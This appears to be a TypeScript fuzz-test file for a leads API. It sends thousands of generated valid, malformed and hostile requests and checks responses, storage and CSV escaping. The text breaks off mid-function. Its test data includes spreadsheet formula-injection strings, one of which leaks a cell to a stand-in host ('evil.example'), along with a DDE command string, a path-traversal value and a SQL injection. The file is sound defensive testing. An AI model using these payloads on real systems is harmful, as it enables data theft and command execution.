// @vitest-environment node
/**
 * The bad-input bar of docs/design/quality-bars.md (issue #15 item 4) for `/api/leads` (#16, docs/leads.md):
 * 10,000 generated requests per property through handleLeadsRequest, in process, on one real
 * SQLite file with the test dealers (leadFixtures.ts):
 *
 * - POST as JSON: valid leads (hostile text in the free-text fields, case and space variants of
 *   the dealer, extra and `__proto__` fields, duplicate keys) and leads with exactly one field
 *   broken (missing, wrong type, hostile, too long, bad email/phone/postcode, consent false or
 *   'yes', an unknown dealer, a wrong kind, a partner's id with another kind); bodies that are not
 *   objects or not JSON at all, bodies over 16 kB, odd media types, cross-site posts, and
 *   Idempotency-Key headers of every shape. Never a 5xx; a valid lead gets 201 with a reference,
 *   stores one lead and one outbox row, and its replay stores nothing more; one broken field gets
 *   a 400 whose `fields` names exactly that field; nothing is stored on any 4xx.
 * - POST as a plain form: the same leads as form fields with every kind of `returnTo`. Only 303,
 *   or 403/413/415/429 for origin, size, type and rate; every Location is a path on this site
 *   under /get-quotes (or /partner-offers/, the other page the form lives on), never another
 *   host, `//`, a backslash or a control character.
 * - GET: generated `dealer`/`format`/Accept and Authorization headers over hostile stored leads:
 *   400 naming a bad dealer or format (checked before the credentials), else 401 without the
 *   dealer's credentials (429 once the run's limiter has tripped), else 200 with that dealer's
 *   leads; no CSV cell starts with = + - @ (or a tab or CR).
 * - A hostile lead posted then read back: stored as sent, and defused in its CSV row (2,000 runs:
 *   see the test).
 *
 * Each run gets fresh limiters (generous, or tripped where the run tests the 429), and the lead
 * tables are emptied before a run only when a previous one stored something. A failure shrinks to
 * a minimal request and prints the command that replays it (FUZZ_SEED=<seed> [FUZZ_PATH=<path>],
 * tests/unit/fuzz/fuzzKit.ts); without FUZZ_SEED each run explores new requests.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  leadEmailPattern,
  leadFields,
  leadIdPattern,
  leadMessages,
  leadPhonePattern,
  type LeadField,
} from '#src/adapters/leads/leadSchema';
import { leadKinds, partnerIds, type LeadKind } from '#src/domain/leads';
import { isValidPostcode, postcodePattern, validatePostcode } from '#src/lib/postcode';
import { leadDraftIdPattern, readLeadDraft } from '#src/server/leads/leadDrafts';
import { LeadRateLimiter } from '#src/server/leads/leadRateLimit';
import { dealerLeadsPassword } from '#src/server/leads/leadsAuth';
import { createSqliteLeadStore } from '#src/server/leads/leadStores';
import { leadCsvColumns } from '#src/server/leads/leadsCsv';
import {
  handleLeadsRequest,
  leadBodyLimit,
  type LeadsApiOptions,
  type LeadsApiRequest,
} from '#src/server/leads/leadsApi';
import { leadByReference, leadsForDealer, recordLead, type StoredLead } from '#src/server/leads/leadStore';
import { FailureLimiter } from '#src/server/search/adminAuth';
import { toResponse, type SearchHttpResponse } from '#src/server/search/searchHttp';
import {
  assertFuzz,
  brokenEncoding,
  coin,
  errorOf,
  errorProblems,
  fuzzParameters,
  hostileText,
  maybe,
  pick,
  sqlish,
  weighted,
  xssPayloads,
} from '../fuzz/fuzzKit';
import { dealerIds, leadsDatabaseForFile, validLead } from './leadFixtures';

const perProperty = 10_000;
/** The read-back property's runs (see its comment). */
const roundTrips = 2_000;
const timeout = 180_000;

const db = leadsDatabaseForFile();
// A temporary file nobody reads after a crash: the runs' commits and WAL checkpoints need no fsync.
db.pragma('synchronous = OFF');
const secret = 'the fuzz suite’s leads secret';
const client = '203.0.113.9';
const at = new Date('2026-11-21T10:00:00.000Z');
/** The reference format of docs/leads.md: 'KS-' and 8 of Crockford's base32 (no I, L, O or U). */
const referenceFormat = /^KS-[0-9A-HJKMNP-TV-Z]{8}$/;
const partnerList = Object.values(partnerIds) as string[];
const partnerPairs = Object.entries(partnerIds) as Array<[LeadKind, string]>;
const messageTexts = new Set<string>(Object.values(leadMessages));

/* ------------------------------------------------------------------------------------------------
 * The harness: one database, fresh limiters per run, the handler called as the route calls it.
 * --------------------------------------------------------------------------------------------- */

type Handle = typeof handleLeadsRequest;

const generous = { perMinute: 1e9, perHour: 1e9, globalPerMinute: 1e9, globalPerHour: 1e9 };

/** The run's options: limiters that never block, or (tripped) ones that already block the client. */
function runOptions(tripped = false): LeadsApiOptions {
  const now = () => at.getTime();
  const rate = () => {
    const limits = tripped ? { perMinute: 1, perHour: 1, globalPerMinute: 1, globalPerHour: 1 } : generous;
    const limiter = new LeadRateLimiter({ ...limits, now });
    if (tripped) limiter.record(client);
    return limiter;
  };
  const authLimiter = new FailureLimiter({ now });
  if (tripped) for (let n = 0; n < authLimiter.perClient; n += 1) authLimiter.fail(client);
  return {
    getLeadStore: () => createSqliteLeadStore(db),
    secret,
    now: () => at,
    leadLimiter: rate(),
    draftLimiter: rate(),
    authLimiter,
  };
}

interface Sent {
  method?: string;
  query?: string;
  body?: string;
  headers: Record<string, string | undefined>;
}

function headersOf(sent: Sent): Headers {
  const headers = new Headers();
  for (const [name, value] of Object.entries(sent.headers)) if (value !== undefined) headers.set(name, value);
  headers.set('x-forwarded-for', client);
  return headers;
}

/** As the route does (bodyReader's limit), with the run's options; the answer must make a Response. */
async function send(sent: Sent, options: LeadsApiOptions, handle: Handle = handleLeadsRequest) {
  const text = sent.body ?? '';
  const request: LeadsApiRequest = {
    method: sent.method ?? 'POST',
    url: `http://localhost/api/leads${sent.query === undefined ? '' : `?${sent.query}`}`,
    headers: headersOf(sent),
    readBody: async (limit) => (Buffer.byteLength(text) > limit ? { ok: false, tooLarge: true } : { ok: true, text }),
  };
  const answer = await handle(request, options);
  toResponse(answer); // what the route sends: throws on a header value no response can carry
  return answer;
}

const countRows = db.prepare<[], Counts>(
  `SELECT (SELECT COUNT(*) FROM leads) AS leads, (SELECT COUNT(*) FROM lead_outbox) AS outbox,
     (SELECT COUNT(*) FROM lead_idempotency) AS keys, (SELECT COUNT(*) FROM lead_drafts) AS drafts`,
);
interface Counts {
  leads: number;
  outbox: number;
  keys: number;
  drafts: number;
}

/** The counts before a run, the lead tables emptied first when an earlier run left rows. */
function freshCounts(): Counts {
  const counts = countRows.get()!;
  if (!counts.leads && !counts.keys && !counts.outbox) return counts;
  db.exec('DELETE FROM lead_idempotency; DELETE FROM lead_outbox; DELETE FROM leads;');
  return countRows.get()!;
}

const sameCounts = (a: Counts, b: Counts) => a.leads === b.leads && a.outbox === b.outbox && a.keys === b.keys;
const shownCounts = (c: Counts) => `${c.leads} leads, ${c.outbox} outbox rows, ${c.keys} keys`;

/** A JSON body, or the problem with it. */
function jsonBody(answer: SearchHttpResponse): { json?: unknown; problem?: string } {
  if (!answer.headers['content-type']?.startsWith('application/json')) return { problem: 'not a JSON answer' };
  if (answer.body === null) return { problem: 'a JSON answer without a body' };
  if (/[<>]/.test(answer.body)) return { problem: 'markup characters in the body' };
  try {
    return { json: JSON.parse(answer.body) as unknown };
  } catch {
    return { problem: 'a body that is not JSON' };
  }
}

/** What every answer of the path shares: never a 5xx, no-store, nosniff. */
function commonProblems(answer: SearchHttpResponse): string[] {
  const problems: string[] = [];
  if (answer.status >= 500) problems.push(`a ${answer.status}`);
  if (answer.headers['cache-control'] !== 'no-store') problems.push('not no-store');
  if (answer.headers['x-content-type-options'] !== 'nosniff') problems.push('no nosniff');
  return problems;
}

/** The problems of an error answer: the shared shape (fuzzKit's errorProblems), and `mention` named. */
function errorAnswerProblems(answer: SearchHttpResponse, status: number, mention?: string): string[] {
  if (answer.status !== status) return [`status ${answer.status}, expected ${status}`];
  const { json, problem } = jsonBody(answer);
  if (problem) return [problem];
  return errorProblems(json, status, { status, ...(mention ? { mention } : {}) });
}

/**
 * The problems of a 400 for a lead's fields: the error shape, `fields` naming exactly `expected`
 * (when given) with the messages of leadMessages, and `error.parameter` the first of them. The
 * lead's 400 keeps the form's summary as its message and names the fields in `fields`
 * (docs/leads.md), so errorProblems' "the message names the parameter" is read from `fields`.
 */
function fieldErrorProblems(answer: SearchHttpResponse, expected?: readonly string[]): string[] {
  if (answer.status !== 400) return [`status ${answer.status}, expected 400 for ${expected?.join(', ') ?? 'fields'}`];
  const { json, problem } = jsonBody(answer);
  if (problem) return [problem];
  const error = errorOf(json);
  const problems = errorProblems(json, 400, { status: 400 }).filter(
    (text) => !text.startsWith('the message does not name the parameter'),
  );
  const fields = (json as { fields?: Record<string, unknown> }).fields;
  if (typeof fields !== 'object' || fields === null) return [...problems, 'a 400 without `fields`'];
  const named = Object.keys(fields);
  if (expected && named.join() !== expected.join())
    problems.push(`fields ${JSON.stringify(named)}, expected ${JSON.stringify(expected)}`);
  if (error.type !== 'validation') problems.push(`error.type ${String(error.type)}`);
  if (error.parameter !== named[0])
    problems.push(`error.parameter ${String(error.parameter)}, first field ${named[0]}`);
  for (const message of Object.values(fields))
    if (typeof message !== 'string' || !messageTexts.has(message))
      problems.push(`an unknown message ${String(message)}`);
  return problems;
}

/* ------------------------------------------------------------------------------------------------
 * Valid leads, hostile where the rules allow it.
 * --------------------------------------------------------------------------------------------- */

/** A lead as sent: field -> value (undefined: not sent). */
type Lead = Partial<Record<LeadField, unknown>>;

/** Text a spreadsheet reads as a formula (and phone numbers, which start with +). */
const formulaTexts = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+2',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '+44 7700 900982',
  '-1+2',
  '-',
  '@SUM(A1:A9)',
  '@',
  '=',
  '"=1+2"',
  "'=already quoted",
  '=1,2\r\n=3',
] as const;

/** Whitespace String.prototype.trim removes (a blank value). */
const blank = fc
  .array(pick([' ', '\t', '\n', '\r', '\u00A0', '\uFEFF', '\u2003', '\u3000']), { maxLength: 6 })
  .map((parts) => parts.join(''));

/** Surrounded by whitespace sometimes (the schema trims). */
const spaced = (text: fc.Arbitrary<string>) =>
  fc.tuple(text, pick(['', '', '', ' ', '  ', '\t'])).map(([value, pad]) => `${pad}${value}${pad}`);

/** Non-blank text of at most `max` characters once trimmed. */
const fitted = (max: number) => (text: string) => {
  const cut = (text.trim() ? text : `x${text}`).slice(0, max);
  return cut.trim() ? cut : 'x';
};

const knownDealer = weighted<string>(
  [8, pick(dealerIds)],
  // Dealer ids are looked up case-insensitively and trimmed (the lead keeps the stored id).
  [1, pick(['DEALER-LEEDS-1', ' dealer-york-2 ', 'Dealer-York-2'])],
);
const kindAndDealer = weighted<readonly [LeadKind, string]>(
  [3, fc.tuple(pick(leadKinds), knownDealer)],
  [1, pick(partnerPairs)],
);

const validName = weighted(
  [2, pick(['Alex Driver', 'Zoë Ó Briain', "O'Neil, Jr.", 'Straße 日本 🚗'])],
  [2, pick(formulaTexts)],
  [1, pick([...xssPayloads, ...sqlish])],
  [4, hostileText.map(fitted(100))],
);
const emailLocal = fc.stringMatching(/^[A-Za-z0-9._%+'=!#$&*/?^`{|}~-]{1,20}$/);
const emailLabel = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,10}[a-z0-9])?$/);
const validEmail = spaced(
  weighted(
    [2, pick(['alex@example.com', '=1+2@example.com', '-x@example.co.uk', '+cmd@example.org', "o'neil@Example.IE"])],
    [
      3,
      fc
        .tuple(emailLocal, fc.array(emailLabel, { minLength: 1, maxLength: 3 }), fc.stringMatching(/^[a-z]{2,6}$/))
        .map(([local, labels, tld]) => `${local}@${labels.join('.')}.${tld}`),
    ],
  ),
);
const validPhone = weighted<unknown>(
  [3, fc.constant(undefined)],
  [1, fc.oneof(fc.constant(null), blank)],
  [
    4,
    spaced(
      fc
        .tuple(coin(0.5), fc.stringMatching(/^[0-9]{7,15}$/), fc.array(fc.nat(), { maxLength: 3 }))
        .map(([plus, digits, cuts]) => {
          let text = digits;
          for (const cut of cuts) {
            const index = 1 + (cut % (text.length - 1));
            text = `${text.slice(0, index)} ${text.slice(index)}`;
          }
          return `${plus ? '+' : ''}${text}`;
        }),
    ),
  ],
);
const validPostcode = spaced(
  weighted([1, pick(['LS1 4AP', 'ls14ap', 'SW1A 1AA', 'GIR 0AA', 'm1 1ae'])], [2, fc.stringMatching(postcodePattern)]),
);
const validMessage = weighted<unknown>(
  [3, fc.constant(undefined)],
  [1, fc.oneof(fc.constant(null), blank)],
  [2, pick(formulaTexts)],
  [1, pick([...xssPayloads, ...sqlish])],
  [3, hostileText],
  [1, fc.string({ unit: 'grapheme', maxLength: 300 }).map((text) => text.slice(0, 1000))],
);
const validConsent = weighted<unknown>([6, fc.constant(true)], [1, pick(['on', 'true'])]);
const validCarId = weighted<unknown>(
  [4, fc.constant(undefined)],
  [1, fc.oneof(fc.constant(null), blank)],
  [2, spaced(fc.stringMatching(leadIdPattern))],
  [1, pick(['golf-1-5-tsi-life', 'deal:42', 'advert.9'])],
);

const validLeadArbitrary: fc.Arbitrary<Lead> = fc
  .record({
    kindAndDealer,
    name: validName,
    email: validEmail,
    phone: validPhone,
    postcode: validPostcode,
    message: validMessage,
    consent: validConsent,
    derivativeId: validCarId,
    dealId: validCarId,
    advertId: validCarId,
  })
  .map(({ kindAndDealer: [kind, dealerId], ...rest }) => ({ kind, dealerId, ...rest }));

/* ------------------------------------------------------------------------------------------------
 * One field broken.
 * --------------------------------------------------------------------------------------------- */

const absent = Symbol('absent');
interface Breakage {
  field: LeadField;
  /** The broken value, or absent (the field left out). */
  value: unknown;
  /** A kind to send with it (a partner's id with another kind). */
  kind?: LeadKind;
}

const wrongType = (nullable: boolean) =>
  pick<unknown>([0, 1, -1, 3.5, true, false, [], ['x'], {}, { a: 1 }, ...(nullable ? [null] : [])]);

/** The text with each lone surrogate as U+FFFD (what a form post and SQLite make of it). */
const wellFormed = (text: string) =>
  text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

/** Hostile text that breaks the rule, before and after a form post makes it well formed. */
const breaking = (broken: (text: string) => boolean) =>
  hostileText.filter((text) => broken(text) && broken(wellFormed(text)));

const knownAnyCase = (id: string) =>
  [...dealerIds, ...partnerList].some((known) => known.toLowerCase() === id.trim().toLowerCase());
const badEmail = (text: string) => text.trim().length > 254 || !leadEmailPattern.test(text.trim());
const badPhone = (text: string) =>
  text.trim() !== '' && (text.trim().length > 20 || !leadPhonePattern.test(text.trim()));
const badId = (text: string) => text.trim() !== '' && !leadIdPattern.test(text.trim());
/** Longer than `min - 1` characters; the limits count code points (zod), so an emoji is one. */
const longText = (min: number, max: number) =>
  fc.tuple(fc.integer({ min, max }), pick(['x', 'é', '日', '🚗', '<', '='])).map(([n, unit]) => unit.repeat(n));
/** Too long, but only by inner whitespace past 1,100 characters (what a form post used to cut off). */
const paddedText = (keep: number) =>
  fc.integer({ min: 1100 - keep, max: 1200 - keep }).map((pad) => `${'p'.repeat(keep)}${' '.repeat(pad)}z`);

const brokenFields: Record<LeadField, fc.Arbitrary<Breakage>> = (() => {
  const of = (field: LeadField, ...values: ReadonlyArray<readonly [number, fc.Arbitrary<unknown>]>) =>
    weighted(...values).map((value): Breakage => ({ field, value }));
  return {
    kind: of(
      'kind',
      [1, fc.constant(absent)],
      [1, wrongType(true)],
      [2, pick(['', 'Quote', ' quote', 'quote ', 'QUOTE', 'best_price', 'partner', 'constructor', '__proto__'])],
      [2, breaking((text) => !(leadKinds as readonly string[]).includes(text))],
    ),
    dealerId: weighted(
      [
        4,
        weighted<unknown>(
          [1, fc.constant(absent)],
          [1, wrongType(true)],
          [1, blank],
          [1, pick(['../x', 'dealer leeds', 'dealer/1', '-leading', '.x', 'dealer-ü', 'x'.repeat(101)])],
          [2, breaking((text) => !knownAnyCase(text))],
          // Well formed, but no such dealer.
          [3, fc.stringMatching(leadIdPattern).filter((id) => !knownAnyCase(id))],
        ).map((value): Breakage => ({ field: 'dealerId', value })),
      ],
      // A partner's id with a kind that is not its own.
      [
        2,
        fc
          .tuple(pick(leadKinds), pick(partnerList))
          .filter(([kind, partner]) => (partnerIds as Record<string, string>)[kind] !== partner)
          .map(([kind, partner]): Breakage => ({ field: 'dealerId', value: partner, kind })),
      ],
    ),
    name: of(
      'name',
      [1, fc.constant(absent)],
      [1, wrongType(true)],
      [2, blank],
      [2, longText(101, 400)],
      [1, paddedText(1)],
    ),
    email: of(
      'email',
      [1, fc.constant(absent)],
      [1, wrongType(true)],
      [1, blank],
      [
        3,
        pick([
          'alex',
          'alex@',
          '@example.com',
          'alex@@example.com',
          'alex@example',
          'alex@example.c',
          'alex @example.com',
          'alex@exa mple.com',
          '<script>@example.com',
          'a"b@example.com',
          'alex@example.com.',
          'alex@-example.com',
          'alex@例え.jp',
          'alex@example.123',
          'a(b)@example.com',
          'alex@example..com',
          `${'a'.repeat(65)}@example.com`,
          `a@${`${'b'.repeat(60)}.`.repeat(5)}com`,
        ]),
      ],
      [2, breaking(badEmail)],
    ),
    phone: of(
      'phone',
      [1, wrongType(false)],
      [1, fc.integer({ min: 21, max: 60 }).map((n) => '0'.repeat(n))],
      [
        3,
        pick([
          '123456',
          '1 2 3 4 5 6',
          'phone',
          '07700-900982',
          '(01632) 960001',
          '++44 7700 900982',
          '+44 7700 900982 ext 2',
          '01632 96000x',
          '+',
        ]),
      ],
      [2, breaking(badPhone)],
    ),
    postcode: of(
      'postcode',
      [1, fc.constant(absent)],
      [1, wrongType(true)],
      [1, blank],
      [2, pick(['LS1', 'LS1 4A', '12345', 'SW1A  1AA', 'SW1A-1AA', 'IZ1 1AA', 'LS1 4APX', 'LS1 4AP'.repeat(3)])],
      [2, breaking((text) => !isValidPostcode(text))],
    ),
    message: of('message', [1, wrongType(false)], [2, longText(1001, 1500)], [1, paddedText(1000)]),
    consent: of(
      'consent',
      [2, fc.constant(absent)],
      [6, pick<unknown>([false, 'yes', 'false', 'ON', 'On', 'off', '', ' ', '1', 0, 1, null, [], {}, 'true '])],
    ),
    derivativeId: of(
      'derivativeId',
      [1, wrongType(false)],
      [1, fc.integer({ min: 101, max: 150 }).map((n) => 'a'.repeat(n))],
      [2, pick(['../etc/passwd', 'golf gti', '-golf', '.x', 'golf/gti', 'golf-ü', "golf';DROP TABLE leads;--"])],
      [2, breaking(badId)],
    ),
    dealId: of('dealId', [1, wrongType(false)], [2, breaking(badId)]),
    advertId: of('advertId', [1, wrongType(false)], [2, breaking(badId)]),
  };
})();

const breakage = fc.oneof(...leadFields.map((field) => brokenFields[field]));

/** The lead with its breakage applied. */
function broken(lead: Lead, { field, value, kind }: Breakage): Lead {
  const next: Lead = { ...lead, ...(kind ? { kind } : {}) };
  if (value === absent) delete next[field];
  else next[field] = value;
  return next;
}

/* ------------------------------------------------------------------------------------------------
 * POST as JSON.
 * --------------------------------------------------------------------------------------------- */

type JsonLabel =
  | 'valid'
  | 'broken'
  | 'no fields'
  | 'bad key'
  | 'not an object'
  | 'not JSON'
  | 'too large'
  | 'media type'
  | 'cross-site';

interface JsonCase {
  label: JsonLabel;
  field?: LeadField;
  body: string;
  contentType: string | undefined;
  key: string | undefined;
  site: string | undefined;
}

const extraField = weighted<readonly [string, unknown]>(
  [
    3,
    fc.tuple(
      pick([
        'constructor',
        'prototype',
        'toString',
        'hasOwnProperty',
        'id',
        'reference',
        'client',
        'created_at',
        'createdAt',
        'fields',
        'error',
        'idempotencyKey',
        'returnTo',
        'Kind',
        'NAME',
        'consent ',
        '',
      ]),
      fc.jsonValue({ maxDepth: 2 }),
    ),
  ],
  // An own `__proto__` (JSON.parse makes one) holding a whole lead: nothing may be read from it.
  [1, fc.constant(['__proto__', { ...validLead(), kind: 'quote' }] as const)],
  [1, fc.tuple(hostileText, fc.jsonValue({ maxDepth: 1 }))],
);
const extras = fc
  .array(extraField, { maxLength: 3 })
  .map((list) => list.filter(([key]) => !(leadFields as readonly string[]).includes(key)));
const separator = pick([',', ', ', ',\n  ']);

/** The body text: the shadowing entry first (JSON.parse keeps the last of a duplicate), then the lead, then the extras. */
function jsonText(
  lead: Lead,
  more: ReadonlyArray<readonly [string, unknown]>,
  sep: string,
  shadow?: readonly [string, unknown],
): string {
  const entries: Array<readonly [string, unknown]> = [];
  if (shadow) entries.push(shadow);
  for (const field of leadFields) if (lead[field] !== undefined) entries.push([field, lead[field]]);
  entries.push(...more);
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value)}`).join(sep)}}`;
}

/** A key the API takes: 16 to 100 of A-Z a-z 0-9 _ . ~ - (a UUID will do), bare or quoted. */
const keyToken = weighted([2, fc.uuid()], [3, fc.stringMatching(/^[A-Za-z0-9_.~-]{16,100}$/)]);
const goodKey = weighted<string | undefined>(
  [3, fc.constant(undefined)],
  [1, pick(['', '   '])], // an empty header is no key
  [
    5,
    fc
      .tuple(keyToken, pick(['bare', 'quoted', 'spaced']))
      .map(([token, how]) => (how === 'quoted' ? `"${token}"` : how === 'spaced' ? ` ${token}\t` : token)),
  ],
);
/** The rule of docs/leads.md, as the header arrives: trimmed, a quoted string unquoted. */
function isBadKey(value: string): boolean {
  const trimmed = value.trim();
  const token = /^"[^"]*"$/.test(trimmed) ? trimmed.slice(1, -1) : trimmed;
  return trimmed !== '' && !/^[A-Za-z0-9_.~-]{16,100}$/.test(token);
}
const headerSafe = (text: string) =>
  [...text].filter((char) => char.codePointAt(0)! <= 0xff && !'\0\r\n'.includes(char)).join('');
const badKey = weighted<string>(
  [2, fc.stringMatching(/^[A-Za-z0-9_.~-]{1,15}$/)],
  [2, fc.stringMatching(/^[A-Za-z0-9_.~-]{101,200}$/)],
  [1, fc.constant('k'.repeat(10_240))],
  [
    3,
    fc
      .tuple(
        keyToken,
        pick([' ', ':', '/', '"', ',', ';', '=', '@', 'é', '\t', '+', '%', '\\', '{', '?', 'ÿ']),
        fc.nat(),
      )
      .map(([token, char, n]) => {
        const index = 1 + (n % (token.length - 1));
        return `${token.slice(0, index)}${char}${token.slice(index)}`;
      }),
  ],
  [1, fc.stringMatching(/^[0-9a-f]{64}$/).map((hex) => `body:${hex}`)],
  [
    1,
    pick([
      '""',
      '" "',
      '"short"',
      `"${'a'.repeat(101)}"`,
      '"unterminated-key-0123456789',
      'key-one-0123456789, key-two-0123456789',
    ]),
  ],
  [1, hostileText.map(headerSafe)],
).filter(isBadKey);

const jsonTypes = [
  'application/json; charset=utf-8',
  'Application/JSON',
  'application/json;charset=UTF-8',
  'application/json ; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; foo=bar',
];
const jsonType = weighted([6, fc.constant('application/json')], [2, pick(jsonTypes)]);
const unsupportedType = pick<string | undefined>([
  undefined,
  '',
  'text/plain',
  'text/plain;charset=UTF-8',
  'text/json',
  'application/jsonp',
  'application/ld+json',
  'application/json-patch+json',
  'application/vnd.api+json',
  'application/xml',
  'multipart/form-data; boundary=----x',
  '*/*',
  'application/json, text/plain',
  'json',
  'application/x-www-form-urlencodedx',
]);
const benignSite = maybe(0.3, pick(['same-origin', 'same-site', 'none']));

const validText = fc.tuple(validLeadArbitrary, extras, separator).map(([lead, more, sep]) => jsonText(lead, more, sep));
const isNotJson = (text: string) => {
  try {
    JSON.parse(text);
    return false;
  } catch {
    return true;
  }
};
const overLimit = (text: string) => Buffer.byteLength(text) > leadBodyLimit;

const jsonCase: fc.Arbitrary<JsonCase> = weighted<JsonCase>(
  [
    28,
    fc
      .record({
        lead: validLeadArbitrary,
        more: extras,
        sep: separator,
        shadow: maybe(0.15, breakage),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
        // Padded with whitespace to exactly the limit (still taken), now and then.
        padded: coin(0.02),
      })
      .map(({ lead, more, sep, shadow, key, contentType, site, padded }): JsonCase => {
        const hidden =
          shadow && shadow.value !== absent && lead[shadow.field] !== undefined
            ? ([shadow.field, shadow.value] as const)
            : undefined;
        const text = jsonText(lead, more, sep, hidden);
        const body = padded ? text + ' '.repeat(Math.max(0, leadBodyLimit - Buffer.byteLength(text))) : text;
        return { label: 'valid', body, key, contentType, site };
      }),
  ],
  [
    40,
    fc
      .record({
        lead: validLeadArbitrary,
        breakage,
        more: extras,
        sep: separator,
        shadowed: coin(0.2),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
      })
      .map(({ lead, breakage: broke, more, sep, shadowed, key, contentType, site }): JsonCase => {
        // The valid value first, the broken one last (JSON.parse keeps the last).
        const shadow =
          shadowed && broke.value !== absent && lead[broke.field] !== undefined
            ? ([broke.field, lead[broke.field]] as const)
            : undefined;
        const body = jsonText(broken(lead, broke), more, sep, shadow);
        return { label: 'broken', field: broke.field, body, key, contentType, site };
      }),
  ],
  [
    3,
    fc
      .record({
        body: weighted(
          [3, extras.map((more) => jsonText({}, more, ','))],
          [1, fc.constant(`${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`)],
        ),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
      })
      .map((parts): JsonCase => ({ label: 'no fields', ...parts })),
  ],
  [
    8,
    fc
      .record({ body: validText, key: badKey, contentType: jsonType, site: benignSite })
      .map((parts): JsonCase => ({ label: 'bad key', ...parts })),
  ],
  [
    5,
    fc
      .record({
        body: weighted(
          [2, pick(['null', '[]', '0', '-1e999', 'true', '"{}"', '[{}]', `${'['.repeat(8_000)}${']'.repeat(8_000)}`])],
          [2, validText.map((text) => `[${text}]`)],
          [1, validText.map((text) => JSON.stringify(text))],
          [
            2,
            fc
              .jsonValue({ maxDepth: 2 })
              .filter((value) => typeof value !== 'object' || value === null || Array.isArray(value))
              .map((value) => JSON.stringify(value)),
          ],
        ),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
      })
      .map((parts): JsonCase => ({ label: 'not an object', ...parts })),
  ],
  [
    5,
    fc
      .record({
        body: weighted(
          [
            2,
            pick([
              '',
              ' ',
              '{',
              '}',
              '{"kind":',
              "{'kind':'quote'}",
              '{"a":1,}',
              'NaN',
              'undefined',
              '{"a":01}',
              '[1,]',
              '{"a" 1}',
              '<lead/>',
              'kind=quote&name=x',
            ]),
          ],
          [2, validText.chain((text) => fc.nat(text.length - 1).map((n) => text.slice(0, n)))],
          [1, validText.map((text) => `\uFEFF${text}`)],
          [1, validText.map((text) => `${text},`)],
          [1, hostileText],
        ).filter(isNotJson),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
      })
      .map((parts): JsonCase => ({ label: 'not JSON', ...parts })),
  ],
  [
    4,
    fc
      .record({
        body: weighted(
          [2, validText.map((text) => text + ' '.repeat(Math.max(0, leadBodyLimit + 1 - Buffer.byteLength(text))))],
          [
            2,
            fc
              .tuple(validLeadArbitrary, fc.integer({ min: leadBodyLimit, max: 3 * leadBodyLimit }))
              .map(([lead, n]) => jsonText({ ...lead, message: 'm'.repeat(n) }, [], ',')),
          ],
          // Fewer characters than the limit, more bytes.
          [1, fc.constant(JSON.stringify({ message: 'é'.repeat(leadBodyLimit / 2 + 1) }))],
          [1, pick(['a'.repeat(leadBodyLimit + 1), `[${'1,'.repeat(100_000)}1]`, 'x'.repeat(1_048_576)])],
        ).filter(overLimit),
        key: goodKey,
        contentType: jsonType,
        site: benignSite,
      })
      .map((parts): JsonCase => ({ label: 'too large', ...parts })),
  ],
  [
    4,
    fc
      .record({
        body: weighted([2, validText], [1, hostileText]),
        key: goodKey,
        contentType: unsupportedType,
        site: benignSite,
      })
      .map((parts): JsonCase => ({ label: 'media type', ...parts })),
  ],
  [
    2,
    fc
      .record({
        body: weighted([2, validText], [1, hostileText]),
        key: weighted([2, goodKey], [1, badKey]),
        contentType: weighted([3, jsonType], [1, unsupportedType]),
        site: pick(['cross-site', 'Cross-Site', 'CROSS-SITE']),
      })
      .map((parts): JsonCase => ({ label: 'cross-site', ...parts })),
  ],
);

const requiredFields = ['kind', 'dealerId', 'name', 'email', 'postcode', 'consent'];

/** One JSON post: its answer's problems, and its replay's after a 201 ([] when all is right). */
async function jsonProblems(
  c: JsonCase,
  handle: Handle = handleLeadsRequest,
): Promise<{ status: number; problems: string[] }> {
  const before = freshCounts();
  const sent: Sent = {
    body: c.body,
    headers: { 'content-type': c.contentType, 'idempotency-key': c.key, 'sec-fetch-site': c.site },
  };
  const options = runOptions();
  const answer = await send(sent, options, handle);
  const after = countRows.get()!;
  const problems = commonProblems(answer);
  // A body over the limit is a 413 whatever else is wrong with it (only the origin and type come first).
  switch (c.label === 'cross-site' || c.label === 'media type' || !overLimit(c.body) ? c.label : 'too large') {
    case 'cross-site':
      problems.push(...errorAnswerProblems(answer, 403));
      break;
    case 'media type':
      problems.push(...errorAnswerProblems(answer, 415));
      if (answer.status === 415 && !answer.headers['accept-post']?.includes('application/json'))
        problems.push('a 415 without Accept-Post');
      break;
    case 'too large':
      problems.push(...errorAnswerProblems(answer, 413));
      break;
    case 'not JSON':
    case 'not an object':
      problems.push(...errorAnswerProblems(answer, 400));
      if (answer.body?.includes('"fields"')) problems.push('a body-level 400 with `fields`');
      break;
    case 'bad key':
      problems.push(...errorAnswerProblems(answer, 400, 'Idempotency-Key'));
      if (answer.status === 400 && errorOf(jsonBody(answer).json).parameter !== 'Idempotency-Key')
        problems.push('the 400 does not give Idempotency-Key as its parameter');
      break;
    case 'no fields':
      problems.push(...fieldErrorProblems(answer, requiredFields));
      break;
    case 'broken':
      problems.push(...fieldErrorProblems(answer, [c.field!]));
      break;
    case 'valid':
      problems.push(...(await createdProblems(answer, before, after, sent, options, handle)));
      break;
  }
  if (answer.status >= 400 && !sameCounts(before, after))
    problems.push(`a ${answer.status} stored something: ${shownCounts(before)} -> ${shownCounts(after)}`);
  return { status: answer.status, problems };
}

/** A 201: the reference, one lead and one outbox row, and a replay that answers the same and stores nothing. */
async function createdProblems(
  answer: SearchHttpResponse,
  before: Counts,
  after: Counts,
  sent: Sent,
  options: LeadsApiOptions,
  handle: Handle,
): Promise<string[]> {
  if (answer.status !== 201)
    return [`status ${answer.status}, expected 201 (${answer.body?.slice(0, 200) ?? 'no body'})`];
  const { json, problem } = jsonBody(answer);
  if (problem) return [problem];
  const problems: string[] = [];
  const reference = (json as { reference?: unknown }).reference;
